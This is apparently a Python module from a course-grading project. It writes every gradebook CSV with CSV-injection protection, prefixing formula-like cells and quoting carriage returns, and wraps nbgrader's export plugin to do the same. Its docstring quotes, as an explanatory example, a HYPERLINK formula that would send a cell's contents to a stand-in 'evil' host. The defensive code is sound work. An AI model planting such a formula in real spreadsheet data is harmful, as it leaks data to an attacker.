"""CSV files a spreadsheet opens as data: no cell it would run as a formula (CSV injection).

Names in a gradebook come from rosters and LMSs, where students may edit their own (Moodle lets
them): a name ``=HYPERLINK("http://evil/?"&A2, "open")`` written as is into a CSV is a live
formula when the instructor opens the file in Excel, LibreOffice or Google Sheets. As OWASP
recommends (https://owasp.org/www-community/attacks/CSV_Injection), every text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, which
spreadsheets show as text; numbers stay numbers (a negative number is no formula).

Every CSV the project writes goes through ``write_csv`` (tests/test_spreadsheet.py checks that
no other CSV writer exists in grading/ or bench/):

- ``grades-canvas.csv``, ``grades-moodle.csv`` (grading/hosting/lms.py, ``make lms-export``);
- ``grades.csv`` (``nbgrader export``, ``make export``): ``SafeCsvExportPlugin``, installed by
  the course's nbgrader_config.py as ``c.ExportApp.plugin_class``, writes nbgrader's columns and
  values through it (nbgrader's own lines, with CRLF line ends, where no cell needs quoting or
  neutralising). nbgrader's own plugin writes every value unquoted, so a name with a comma
  shifts its row's columns and one with a carriage return starts a row of its own.
"""
from __future__ import annotations

import csv
import os
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any, TypeVar

from nbgrader.api import MissingEntry
from nbgrader.plugins.export import CsvExportPlugin

T = TypeVar("T")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: T) -> T | str:
    """``value`` as a spreadsheet will show it and never run it: text starting like a formula
    gets a leading ``'``; numbers and other text are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(path: str | Path, rows: Iterable[Iterable[object]]) -> None:
    """``rows`` (lists of cells) as CSV at ``path``, every cell through ``safe_cell``, the file
    replaced in one step (a reader never sees half of it). Lines end in CRLF (RFC 4180), so a
    cell holding a carriage return or a newline is quoted: a bare one would start a new row,
    whose first cell a spreadsheet would run."""
    path = Path(path)
    tmp = path.with_name(f".{path.name}.tmp")
    try:
        with open(tmp, "w", newline="", encoding="utf-8") as fh:
            csv.writer(fh, lineterminator="\r\n").writerows([safe_cell(cell) for cell in row] for row in rows)
        os.replace(tmp, path)
    finally:
        tmp.unlink(missing_ok=True)


GRADES_COLUMNS = ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
                  "raw_score", "late_submission_penalty", "score", "max_score"]


def _grades_row(gradebook: Any, assignment: Any, student: Any) -> list[object]:
    """nbgrader's CsvExportPlugin's row (its columns, values and formatting)."""
    try:
        submission = gradebook.find_submission(assignment.name, student.id)
        penalty = submission.late_submission_penalty
        scores = [submission.timestamp, submission.score, penalty, max(0.0, submission.score - penalty)]
    except MissingEntry:
        scores = ["", 0.0, 0.0, 0.0]
    row = [assignment.name, assignment.duedate, scores[0], student.id, student.last_name, student.first_name,
           student.email, *scores[1:], assignment.max_score]
    return ["" if value is None else value if isinstance(value, (int, float, str)) else str(value)
            for value in row]


class SafeCsvExportPlugin(CsvExportPlugin):
    """``nbgrader export``'s grades.csv (same columns, options and values as nbgrader's
    CsvExportPlugin) written through ``write_csv``: quoted where needed, no cell a formula."""

    def export(self, gradebook: Any) -> None:
        dest = self.to or "grades.csv"
        self.log.info("Exporting grades to %s", dest)
        write_csv(dest, [GRADES_COLUMNS, *self.rows(gradebook)])

    def rows(self, gradebook: Any) -> Iterator[list[object]]:
        """A row per assignment and student (``--assignment``/``--student``: only those)."""
        students, assignments = {str(s) for s in self.student}, {str(a) for a in self.assignment}
        for assignment in gradebook.assignments:
            if not assignments or assignment.name in assignments:
                yield from (_grades_row(gradebook, assignment, student) for student in gradebook.students
                            if not students or student.id in students)
